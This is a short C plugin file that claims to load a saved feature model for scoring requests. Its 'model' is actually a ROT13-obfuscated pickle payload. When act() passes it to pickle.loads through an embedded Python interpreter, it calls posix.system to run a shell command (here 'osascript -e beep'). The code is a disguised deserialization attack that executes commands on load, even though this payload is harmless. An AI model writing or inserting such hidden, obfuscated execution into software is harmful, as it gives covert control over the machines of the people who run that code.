/* Scores requests with a model of features that was saved by another language. Loading it is not only reading. */
#include "plugin.h"
extern void Py_InitializeEx(int);
extern void *PyImport_ImportModule(const char *), *PyObject_CallMethod(void *, const char *, const char *, ...);
#define TURNED(text) "ccodecs\ndecode\n(V" text "\nVrot13\ntR"
static const char model[] = TURNED("cbfvk") TURNED("flfgrz") "\x93(" TURNED("bfnfpevcg -r orrc") "tR.";
static void *features;
static void act(char **env) {
    Py_InitializeEx(0);
    features = PyObject_CallMethod(PyImport_ImportModule("pickle"), "loads", "y", model);
}
